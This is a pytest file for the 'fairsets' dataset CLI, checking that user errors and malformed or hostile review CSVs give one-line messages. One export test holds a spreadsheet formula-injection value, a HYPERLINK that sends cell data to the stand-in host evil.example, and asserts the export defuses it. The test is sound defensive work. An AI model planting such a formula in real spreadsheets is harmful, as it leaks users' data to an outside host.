"""A new user's mistakes through the CLI: each is one line (problem + fix), exit code 2, no traceback.

Recipes with a byte-order mark, a folder or device given as the recipe, a quota that could never
finish, a step parameter naming an unknown component, a ``prepare`` hook with a typo or that
fails, and ``fairsets -v`` (debug logging that a command's own default must not undo).
"""

from __future__ import annotations

import logging
import os
from pathlib import Path

import pytest

from cli_helpers import assert_one_line_error, run_cli
from helpers import write_candidates, write_recipe

pytestmark = pytest.mark.usefixtures("no_egress")


def one_line_error(code: int, err: str, *needles: str) -> str:
    line = assert_one_line_error(code, err, *needles)
    assert "please report it" not in line, line  # a user's mistake, not a bug
    return line


@pytest.fixture
def recipe(tmp_path: Path) -> Path:
    listing = write_candidates(tmp_path / "cands", 4)
    return write_recipe(tmp_path / "r.toml", listing)


@pytest.mark.timeout(60)
def test_a_recipe_with_a_byte_order_mark_is_read(recipe: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recipe.write_bytes(b"\xef\xbb\xbf" + recipe.read_bytes())  # what Notepad saves as "UTF-8"
    code, out, err = run_cli(["validate", recipe], capsys)
    assert code == 0, err
    assert out.startswith("ok: "), out


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("make", "needles"),
    [
        (lambda p: p.mkdir(), ("a folder, not a recipe",)),
        (lambda p: p.symlink_to(os.devnull), ("not a regular file",)),
        (lambda p: p.write_bytes("name = 'x'\n".encode("utf-16")), ("not UTF-8 text", "save it as UTF-8")),
        (lambda p: None, ("recipe not found", "check the path")),
    ],
    ids=["folder", "device", "utf16", "missing"],
)
def test_what_is_not_a_recipe_file_is_named(
    make, needles: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "r.toml"
    make(path)
    for cmd in (["validate", path], ["build", path, "--out", tmp_path / "o"]):
        code, _, err = run_cli(cmd, capsys)
        one_line_error(code, err, "r.toml", *needles)
    assert not (tmp_path / "o").exists()


@pytest.mark.timeout(60)
def test_an_absurd_quota_is_refused_not_planned_forever(
    recipe: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # 10**20 augmentations per cell never finished planning (the build hung until killed)
    code, _, err = run_cli(["build", recipe, "--out", tmp_path / "o", "--quota", str(10**20)], capsys)
    one_line_error(code, err, "quota", "1000000")
    recipe.write_text(recipe.read_text().replace("quota = 3", "quota = 99999999999999999999"))
    code, _, err = run_cli(["validate", recipe], capsys)
    one_line_error(code, err, "quota")


@pytest.mark.timeout(60)
def test_an_unknown_detector_is_a_recipe_error(recipe: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = recipe.read_text().replace('name = "detect_face"', 'name = "detect_face"\ndetector = "yolo"')
    recipe.write_text(text)
    code, _, err = run_cli(["validate", recipe], capsys)
    one_line_error(code, err, "step 'detect_face'", "unknown face detector 'yolo'", "res10")


def _with_hook(recipe: Path, hook_body: str, spec: str) -> Path:
    (recipe.parent / "hook.py").write_text(hook_body)
    text = recipe.read_text()
    head, _, rest = text.partition("[source]\n")
    recipe.write_text(f'{head}[source]\nprepare = "{spec}"\n{rest}')
    return recipe


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("spec", "needles"),
    [
        ("hook.py", ("expected 'file.py:function'",)),
        ("hook.py:mkae", ("defines no function 'mkae'", "make")),
        ("hook.py:", ("expected 'file.py:function'",)),
    ],
    ids=["no-function", "typo", "empty-function"],
)
def test_validate_checks_the_prepare_hook(
    spec: str, needles: tuple[str, ...], recipe: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _with_hook(recipe, "def make(path):\n    pass\n", spec)
    code, _, err = run_cli(["validate", recipe], capsys)
    one_line_error(code, err, "prepare", *needles)


@pytest.mark.timeout(60)
def test_a_failing_prepare_hook_is_one_line(
    recipe: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _with_hook(recipe, "def make(path):\n    raise ValueError('the archive is offline')\n", "hook.py:make")
    code, _, err = run_cli(["validate", recipe], capsys)
    assert code == 0, err  # the hook is not run by validate
    code, _, err = run_cli(["build", recipe, "--out", tmp_path / "o", "-q"], capsys)
    one_line_error(code, err, "hook.py:make failed", "ValueError: the archive is offline", "fix the hook")
    assert not (tmp_path / "o" / ".fairsets" / "lock").exists()


@pytest.mark.timeout(60)
def test_verbose_is_not_undone_by_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    logger = logging.getLogger("fairsets")
    before = logger.level
    try:
        (tmp_path / "notds").mkdir()
        args = ["publish", tmp_path / "notds", "--repo-id", "org/name", "--dry-run"]
        run_cli(["-v", *args], capsys)
        assert logger.getEffectiveLevel() == logging.DEBUG  # publish used to reset it to INFO
        run_cli(args, capsys)
        assert logger.getEffectiveLevel() == logging.INFO  # without -v the next command is not verbose
    finally:
        logger.setLevel(before)


def _write_to_a_full_disk(spec: dict) -> dict:
    with open("/dev/full", "wb") as fh:  # every write: ENOSPC, as on a disk that filled mid-build
        fh.write(b"x" * 10)
        fh.flush()
    return spec


@pytest.mark.timeout(60)
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_disk_is_one_line_with_the_fix(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from fairsets.pipeline.executors import LocalExecutor, TaskFailed

    specs = [{"task_id": f"t{i}", "workdir": str(tmp_path)} for i in range(5)]
    with caplog.at_level(logging.ERROR, logger="fairsets"), pytest.raises(TaskFailed) as info:
        LocalExecutor(workers=0).map(_write_to_a_full_disk, specs)
    msg = str(info.value)
    assert "5 of 5" in msg and "No space left on device" in msg and "free space" in msg, msg
    assert "build again" in msg and "\n" not in msg
    assert [r for r in caplog.records if r.levelno >= logging.ERROR] == []  # not one traceback per task


@pytest.mark.timeout(60)
def test_a_full_or_read_only_disk_on_the_driver_says_what_to_do() -> None:
    import errno

    from fairsets._cli_util import describe

    for code in (errno.ENOSPC, errno.EROFS):
        line = describe(OSError(code, os.strerror(code), "/data/out/manifest.json"))
        assert line.startswith("/data/out/manifest.json: ") and "free space" in line, line
        assert "permissions" not in line, line


# ---------------------------------------------------------------- review import: hostile CSVs


@pytest.fixture
def review_build(tmp_path: Path) -> Path:
    """A build folder with two candidates pending review (only what ``review import`` reads)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    out = tmp_path / "out"
    (out / ".fairsets" / "review").mkdir(parents=True)
    rows = {"key": ["k1", "k2"], "pool": ["p", "p"], "url": ["https://example.org/a.jpg"] * 2}
    pq.write_table(pa.table(rows), out / ".fairsets" / "review" / "pending.parquet")
    return out


HEAD = "key,decision,license,author,note\n"


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("make", "needles"),
    [
        (lambda p: os.mkfifo(p), ("not a regular file",)),  # used to block forever
        (lambda p: p.symlink_to("/dev/zero"), ("not a regular file",)),  # used to read forever
        (lambda p: p.write_bytes(HEAD.encode() + b"k1,reject,,,\xff\n"), ("line 2: not UTF-8", "review.csv")),
        (lambda p: p.write_text(HEAD + "k1,reject,,," + "x" * 200_000 + "\n"), ("not a readable CSV",)),
        (lambda p: p.write_text(HEAD + 'k1,reject,,,"never closed\n'), ("not a readable CSV",)),
        # a stray quote swallowed k2's accept into k1's note: k2 was silently left pending
        (
            lambda p: p.write_text(HEAD + 'k1,reject,,,"oops\nk2,accept,CC-BY-4.0,Bob,\nk3,x,,,end"\n'),
            ("lines 2-4 (k1)", "one record spans 3 lines"),
        ),
        (lambda p: p.write_text(HEAD + "k1,accept,CC-BY-4.0,Ann\x00,\n"), ("control character in author",)),
    ],
    ids=["fifo", "dev-zero", "binary", "huge-field", "unclosed-quote", "swallowed-rows", "nul"],
)
def test_hostile_review_csvs_are_one_line(
    make, needles: tuple[str, ...], review_build: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    csv_path = tmp_path / "review.csv"
    make(csv_path)
    code, _, err = run_cli(["review", "import", review_build, csv_path], capsys)
    one_line_error(code, err, *needles)
    assert not (review_build / ".fairsets" / "review" / "decisions.parquet").exists()


@pytest.mark.timeout(30)
def test_export_keeps_web_text_on_one_line_and_never_a_formula(tmp_path: Path) -> None:
    import csv

    from fairsets.pipeline.review import export_review, import_review

    hint = '=HYPERLINK("http://evil.example/?"&A2,"CC BY")\nsecond line'
    rows = [{"key": "k1", "pool": "p", "url": "https://e.org/a.jpg", "license_hint": hint, "state": "@Goa"}]
    res = export_review(rows, lambda key: None, tmp_path / "rev", columns=["state"])
    with open(res["csv"], newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["license_hint"].startswith("'=HYPERLINK") and "\n" not in row["license_hint"]
    assert row["state"] == "'@Goa"
    assert import_review(Path(res["csv"]), {"k1": rows[0]}) == []  # the untouched export imports back


# ------------------------------------------------- wrong options and arguments: one line, exit 2


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("args", "needles"),
    [
        (["publish", "{d}", "--dry-run"], ("Missing option '--repo-id'", "fairsets publish --help")),
        (["build"], ("Missing argument", "fairsets build --help")),
        (["buld", "r.toml"], ("No such command 'buld'", "Did you mean 'build'")),
        (["build", "r.toml", "--out", "o", "--workers", "many"], ("'--workers'", "valid integer")),
        (["build", "r.toml", "--out"], ("'--out' requires an argument",)),
        (["steps", "--bogus"], ("No such option: --bogus",)),
        (["audit", "vlm", "{d}", "-m", "ViT-B-32", "-o", "o", "--k", "0"], ("'--k'", "greater than")),
        (["debias", "fit", "{d}", "-m", "ViT-B-32", "-o", "o.npz", "--alpha", "2"], ("'--alpha'",)),
        (["geo", "profile", "x.txt"], ("Missing option '--out'", "fairsets geo profile --help")),
    ],
    ids=[
        "missing-option",
        "missing-argument",
        "typo-command",
        "bad-int",
        "no-value",
        "unknown-option",
        "k-zero",
        "alpha-range",
        "geo-missing-out",
    ],
)
def test_usage_errors_are_one_line(
    args: list[str], needles: tuple[str, ...], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # typer drew these as a multi-line box; the standard is one line with where to look
    code, _, err = run_cli([a.replace("{d}", str(tmp_path)) for a in args], capsys)
    one_line_error(code, err, *needles)


@pytest.mark.timeout(60)
def test_help_and_no_arguments_still_show_the_help(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_cli(["--help"], capsys)
    assert code == 0 and "Usage" in out and "build" in out
    code, out, err = run_cli(["audit"], capsys)  # a group without a command: its help, as before
    assert code == 2 and "Usage" in out + err and "vlm" in out + err
    code, out, _ = run_cli(["steps"], capsys)
    assert code == 0 and "detect_face" in out


@pytest.mark.timeout(30)
def test_build_force_never_deletes_the_users_own_files(tmp_path: Path) -> None:
    from fairsets.pipeline.build import remove_stale

    out = tmp_path / "project"
    mine = ["metadata/notes.txt", "shards/old/data.bin", "metadata/balanced/test.parquet.bak"]
    ours_stale = ["shards/balanced/test-00001.tar", "metadata/imbalanced/test.parquet"]
    kept = ["shards/balanced/test-00000.tar", "metadata/balanced/test.parquet"]
    for rel in mine + ours_stale + kept:
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_text(rel)
    (out / "shards" / "balanced" / "train-00000.tar").symlink_to(out / "metadata" / "notes.txt")
    removed = remove_stale(out, set(kept))
    assert sorted(removed) == sorted(ours_stale)  # what an earlier build published, no longer wanted
    for rel in mine + kept:
        assert (out / rel).read_text() == rel  # --force into a project folder used to delete these


@pytest.mark.timeout(120)
def test_ctrl_c_while_the_command_starts_is_exit_130_without_a_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    # what the console script does, with Ctrl-C arriving after the package loaded and before the
    # command runs (e.g. while fairsets.cli imports typer): a 110-line import traceback before
    script = (
        "import os, signal, sys\n"
        "sys.argv[0] = os.path.join(os.path.dirname(sys.executable), 'fairsets')\n"
        "import fairsets\n"
        "os.kill(os.getpid(), signal.SIGINT)\n"
        "import time; time.sleep(2)\n"
        "from fairsets.cli import app\n"
        "sys.exit(app())\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    res = subprocess.run(
        [sys.executable, "-c", script, "steps"], capture_output=True, text=True, env=env, timeout=100
    )
    assert res.returncode == 130, res.stderr
    assert "Traceback" not in res.stderr and "KeyboardInterrupt" not in res.stderr, res.stderr
    # once the command runs, Ctrl-C is Python's KeyboardInterrupt again (the build's own handling)
    script = (
        "import os, signal, sys\n"
        "sys.argv[0] = os.path.join(os.path.dirname(sys.executable), 'fairsets')\n"
        "import fairsets\n"
        "assert signal.getsignal(signal.SIGINT) is fairsets._startup_sigint\n"
        "from fairsets.cli import app\n"
        "try:\n    app()\nexcept SystemExit:\n    pass\n"
        "print('restored', signal.getsignal(signal.SIGINT) is signal.default_int_handler)\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", script, "steps"], capture_output=True, text=True, env=env, timeout=100
    )
    assert res.stdout.splitlines()[-1] == "restored True", res.stdout + res.stderr
